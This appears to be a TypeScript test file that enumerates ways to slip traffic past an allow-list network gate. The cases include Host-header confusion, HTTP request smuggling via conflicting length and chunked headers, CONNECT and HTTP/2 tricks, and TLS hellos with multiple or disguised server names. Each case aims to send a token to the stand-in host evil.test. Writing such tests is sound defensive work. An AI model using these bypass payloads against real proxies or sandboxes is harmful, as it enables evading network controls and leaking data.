import { ask, BY_NAME, request, STRICT, type Attack, type Attempt, type Scene } from "./attacks.ts";
import { ANYTHING_PORT } from "./lab-plan.ts";

const FINE = request("allowed.test", "/fine");
const EVIL = request("evil.test");

/** What says two things at once: to the gate that it is for an allowed name, to a server something else. */
export function attacksDisguised({ plan }: Scene): Attack[] {
  // To an allowed server it may be said where the address is allowed: there only names tell.
  const said = (name: string, send: string, more: object = {}, isSilent = false): Attack[] => [
    {
      isSilent,
      name: `HTTP: ${name}`,
      attempt: ask(plan.attacker, ANYTHING_PORT, send, more),
      reaches: "anywhere",
      allowed: "none",
      forbidden: STRICT,
    },
    {
      isSilent,
      name: `HTTP to an allowed server: ${name}`,
      attempt: ask(plan.allowed, ANYTHING_PORT, send, more),
      reaches: "anywhere",
      allowed: "ranges",
      forbidden: BY_NAME,
    },
  ];
  const hosts = {
    "another Host": "evil.test",
    "a Host below": "sub.allowed.test",
    "a Host with a user": "allowed.test@evil.test",
    "a Host with a fragment": "evil.test#allowed.test",
    "a Host with a path": "evil.test/allowed.test",
    "a Host with two ports": "evil.test:80:allowed.test",
    "a Host with a comma": "allowed.test, evil.test",
    "a Host with a space": "allowed.test evil.test",
    "a Host with a zero": "evil.test\0.allowed.test",
    "a Host with no name": "",
    "a Host of brackets": "[::ffff:cb00:7102]",
  };
  const requests = {
    ...Object.fromEntries(Object.entries(hosts).map(([name, host]) => [name, request(host)])),
    "two Hosts": request("allowed.test", "/TOKEN", "host: evil.test\r\n"),
    "two Hosts, the other first": request("evil.test", "/TOKEN", "host: allowed.test\r\n"),
    "a Host in a folded line": "GET /TOKEN HTTP/1.1\r\nhost:\r\n evil.test\r\nx: y\r\n host: allowed.test\r\n\r\n",
    "a space before the colon": "GET /TOKEN HTTP/1.1\r\nhost : evil.test\r\nhost: allowed.test\r\n\r\n",
    "lines without returns": "GET /TOKEN HTTP/1.1\nhost: evil.test\n\nGET / HTTP/1.1\r\nhost: allowed.test\r\n\r\n",
    "a Host behind a lone return": "GET /TOKEN HTTP/1.1\r\nx: y\rhost: evil.test\r\nhost: allowed.test\r\n\r\n",
    "an absolute target": request("allowed.test", "http://evil.test/TOKEN"),
    "an absolute target by TLS": request("allowed.test", "https://evil.test/TOKEN"),
    CONNECT: "CONNECT evil.test:443 HTTP/1.1\r\nhost: allowed.test\r\nx: TOKEN\r\n\r\n",
    "version 1.0 without a Host": "GET /TOKEN HTTP/1.0\r\n\r\n",
    "version 2 at once": `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x04\x01\x04\0\0\0\x01TOKEN`,
    "a second request behind the first": `${FINE}${EVIL}`,
    "a request that is a body to some": [
      `POST /fine HTTP/1.1\r\nhost: allowed.test\r\ncontent-length: ${EVIL.length}\r\n`,
      `transfer-encoding: chunked\r\n\r\n0\r\n\r\n${EVIL}`,
    ].join(""),
    "a body that is a request to some": [
      "POST /fine HTTP/1.1\r\nhost: allowed.test\r\ncontent-length: 3\r\ntransfer-encoding: chunked\r\n\r\n",
      `${EVIL.length.toString(16)}\r\n${EVIL}\r\n0\r\n\r\n`,
    ].join(""),
    "two lengths": [
      `POST /fine HTTP/1.1\r\nhost: allowed.test\r\ncontent-length: 0\r\ncontent-length: ${EVIL.length}\r\n\r\n${EVIL}`,
    ].join(""),
    "a coding that few know": `POST /fine HTTP/1.1\r\nhost: allowed.test\r\ntransfer-encoding: xchunked\r\n\r\n${EVIL}`,
    "a body of a GET": `GET /fine HTTP/1.1\r\nhost: allowed.test\r\ncontent-length : ${EVIL.length}\r\n\r\n${EVIL}`,
  };
  const http = Object.entries(requests).flatMap(([name, send]) => said(name, send));
  const later = [
    ...said("a second request on its connection", FINE, { next: EVIL }),
    ...said(
      "a request behind an upgrade that was refused",
      request("allowed.test", "/fine", "connection: upgrade\r\nupgrade: websocket\r\n"),
      { next: EVIL },
    ),
    // The gate waits for more.
    ...said("version 0.9", "GET /TOKEN\r\n", {}, true),
    ...said("piece by piece", EVIL, { pieces: 7 }),
  ];
  // What is within TLS the gate sees only where it adds headers.
  const within: Attack = {
    name: "HTTP in TLS with an allowed name: another Host",
    attempt: { op: "tls", host: plan.allowed, port: 443, name: "allowed.test", header: "evil.test", path: "/TOKEN" },
    reaches: "anywhere",
    allowed: "names",
    forbidden: ["off", "headers"],
  };
  return [...http, ...later, within, ...hellos(plan.attacker, plan.allowed)];
}

/** Hellos of TLS with more than one name, or where a name is looked for in vain. */
function hellos(attacker: string, allowed: string): Attack[] {
  const mine = "TOKEN.evil.test";
  const hello = (names: string[][], more: object = {}): Attempt => {
    return { op: "raw_hello", host: attacker, port: ANYTHING_PORT, names, ...more };
  };
  const pure = {
    "another name": hello([[mine]]),
    "a name in a second record": hello([[mine]], { records: [64] }),
    "a name in many records": hello([[mine]], { records: Array.from({ length: 60 }, () => 5) }),
    "a name byte by byte": hello([[mine]], { drip: true }),
    "no name": hello([]),
    "an empty list of names": hello([[]]),
    "an empty name": hello([[""]]),
    "a name with a zero": hello([[`allowed.test\0.${mine}`]]),
    "a name below": hello([["TOKEN.allowed.test"]]),
    "an address for a name": hello([[attacker]]),
  };
  const mixed = {
    "two names": hello([["allowed.test", mine]]),
    "two names, the other first": hello([[mine, "allowed.test"]]),
    "two lists of names": hello([["allowed.test"], [mine]]),
    "two lists of names, the other first": hello([[mine], ["allowed.test"]]),
  };
  const attack = (name: string, attempt: Attempt): Attack => {
    return { name: `hello: ${name}`, attempt, reaches: [attacker], allowed: "none", forbidden: STRICT };
  };
  const toAllowed = (name: string, attempt: Attempt): Attack => {
    const aim = { reaches: [allowed], allowed: "ranges", forbidden: BY_NAME } as const;
    return { name: `hello to an allowed server: ${name}`, attempt: { ...attempt, host: allowed }, ...aim };
  };
  return [
    ...Object.entries({ ...pure, ...mixed }).map(([name, attempt]) => attack(name, attempt)),
    ...Object.entries(pure).map(([name, attempt]) => toAllowed(name, attempt)),
  ];
}
